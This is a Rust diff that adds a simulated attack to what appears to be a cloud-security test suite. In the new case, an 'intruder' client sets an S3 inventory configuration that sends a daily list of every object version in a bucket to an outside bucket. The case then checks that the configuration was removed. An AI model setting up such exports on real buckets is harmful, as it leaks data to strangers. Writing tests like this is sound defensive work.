@@ -83,6 +83,35 @@ pub const BUCKET_ATTACKS: &[Attack] = &[
         },
     },
     Attack {
+        name: "a list of all objects written to a stranger's bucket every day",
+        event: "PutInventoryConfiguration",
+        guard: ENCRYPTION_GUARD,
+        prepare: None,
+        call: |s| {
+            Box::pin(async {
+                let to = s3::InventoryS3BucketDestination::builder().bucket("arn:aws:s3:::offsite-lists");
+                let to = s3::InventoryDestination::builder()
+                    .s3_bucket_destination(to.format(s3::InventoryFormat::Csv).build()?);
+                let schedule = s3::InventorySchedule::builder().frequency(s3::InventoryFrequency::Daily).build()?;
+                let inventory = s3::InventoryConfiguration::builder()
+                    .id("offsite")
+                    .is_enabled(true)
+                    .destination(to.build())
+                    .included_object_versions(s3::InventoryIncludedObjectVersions::All)
+                    .schedule(schedule)
+                    .build()?;
+                let put = s.intruder().s3().put_bucket_inventory_configuration().bucket(s.ml_bucket());
+                sent(put.id("offsite").inventory_configuration(inventory).send().await)
+            })
+        },
+        is_repaired: |s| {
+            Box::pin(async {
+                let list = s.administrator().s3().list_bucket_inventory_configurations();
+                Ok(list.bucket(s.ml_bucket()).send().await?.inventory_configuration_list().is_empty())
+            })
+        },
+    },
+    Attack {
         name: "any web page may read the data with a user's link",
         event: "PutBucketCors",
         guard: ENCRYPTION_GUARD,
